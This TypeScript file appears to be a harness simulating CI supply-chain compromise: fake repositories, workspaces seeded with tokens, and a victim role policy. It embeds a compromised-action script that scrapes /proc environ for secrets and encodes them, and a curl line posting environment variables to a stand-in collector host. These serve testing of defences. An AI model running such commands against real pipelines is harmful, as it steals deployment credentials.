import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { makeRepository } from '../../demo/peers/git-server.ts'
import type { Job, Secrets } from './breach.ts'
import type { Pages } from './internet.ts'
import type { Registry } from './registry.ts'

/** Repositories beside the one that the stage has: an action with a moved tag, and one that is nobody's business. */
export function fillGitServer(root: string, secrets: Secrets): void {
  const history = join(root, '.history.json')
  const repository = (path: string, files: Record<string, string>, tag?: string) => {
    const source = join(root, '.source', path)
    for (const [name, text] of Object.entries(files)) {
      mkdirSync(source, { recursive: true })
      writeFileSync(join(source, name), text)
    }
    const commit = {
      message: 'one',
      author: 'Dev <dev@example.com>',
      date: '2026-01-01T00:00:00Z',
      files: Object.keys(files),
    }
    writeFileSync(history, JSON.stringify([commit]))
    makeRepository({ root, path, source, history })
    if (tag !== undefined) git(join(root, `${path}.git`), 'tag', tag)
  }
  repository('octo-org/payroll', { 'salaries.txt': `${secrets.payroll}\n` })
  repository('actions/changed-files', { 'action.sh': printsMemory }, 'v45')
  const links = join(root, 'octo-org/links.git')
  for (const tag of ['v1', 't1', 't2', 't3', 't4', 't5']) git(links, 'tag', tag)
}

const printsMemory = `loot=$(for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done 2>/dev/null | grep -a -e AGENT_SECRET -e DEPLOY_PASSWORD)
printf %s "$loot" | base64 -w0 | base64 -w0; echo
`

export const pages: Pages = {
  'uploader.example.org/upload.sh': `curl -sS -m 8 --data-binary "$(git remote -v) $(env)" "https://collector.example.net/$GITHUB_JOB"\n`,
}

export function git(repository: string, ...args: string[]): string {
  try {
    return execFileSync('git', ['-c', 'safe.directory=*', '-C', repository, ...args], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'ignore'],
    }).trim()
  } catch {
    return ''
  }
}

/** Folders of one case on one side: a workspace for each job, what is kept between them, a home that somebody needs. */
export interface Place {
  readonly workspace: string
  readonly home: string
  /** A file of the workspace, or of the home (`~/`); empty if it is not there. */
  file(path: string): string
}

/** Lays a job's workspace out as its CI does, the credential that its checkout leaves included. */
export function layPlace(deps: {
  folder: string
  number: number
  job: Job
  gitRoot: string
  registry: Registry
  secrets: Secrets
}): Place {
  const { folder, job, registry, secrets } = deps
  const workspace = join(folder, `job-${deps.number}`)
  const home = join(folder, 'home')
  mkdirSync(home, { recursive: true })
  writeFileSync(join(home, 'keep'), 'somebody needs it\n')
  writeFileSync(
    join(home, '.npmrc'),
    `//registry.example.com/:_authToken=${secrets.npm}\nregistry=https://registry.example.com\n`,
  )
  if (job.clone === true) {
    execFileSync('git', ['clone', '-q', join(deps.gitRoot, 'octo-org/links.git'), workspace], {
      stdio: 'ignore',
    })
    git(
      workspace,
      'remote',
      'set-url',
      'origin',
      `https://ci-bot:${secrets.git}@git.example.com/octo-org/links`,
    )
    for (const name of ['package.json', 'package-lock.json']) rmSync(join(workspace, name), { force: true })
  } else mkdirSync(workspace, { recursive: true })
  writeFileSync(join(workspace, '.npmrc'), 'registry=https://registry.example.com\n')
  for (const [name, text] of Object.entries(job.files ?? {})) {
    if (name !== 'LOCK') {
      writeFileSync(join(workspace, name), text)
      continue
    }
    const lock = registry.lock(text)
    const { packages } = JSON.parse(lock) as { packages: Record<string, unknown> }
    writeFileSync(join(workspace, 'package-lock.json'), lock)
    writeFileSync(join(workspace, 'package.json'), JSON.stringify(packages['']))
  }
  return {
    workspace,
    home,
    file(path) {
      const full = path.startsWith('~/') ? join(home, path.slice(2)) : join(workspace, path)
      return existsSync(full) ? readFileSync(full, 'latin1') : ''
    },
  }
}

/** The policy of the victim: what a job of it needs, and nothing else. */
export function victimPolicy(text: string, ca: string): string {
  const trust = 'issuer: ci, repository_id: "1296269"'
  const connections = text
    .slice(0, text.indexOf('roles:'))
    .replace(
      /^ {2}npm: .*$/m,
      `  npm: { kind: npm, url: https://registry.example.com, ca: ${JSON.stringify(ca)} }`,
    )
  return `${connections}
roles:
  build:
    trust: { ${trust}, event: [push, pull_request] }
    grants: [ "git:read git/octo-org/links", "git:read git/actions/changed-files", npm:install npm ]
    egress: [ "uploader.example.org:443" ]
  release:
    trust: { ${trust}, event: push, ref: refs/heads/main, ref_protected: true }
    grants: [ "git:read git/octo-org/links", "git:push git/octo-org/links@refs/tags/*" ]
  deploy:
    trust: { ${trust}, event: push, workflow: octo-org/links/.github/workflows/ci.yml@refs/heads/main }
    grants: [ "git:push git/octo-org/links@refs/heads/deploy" ]
`
}
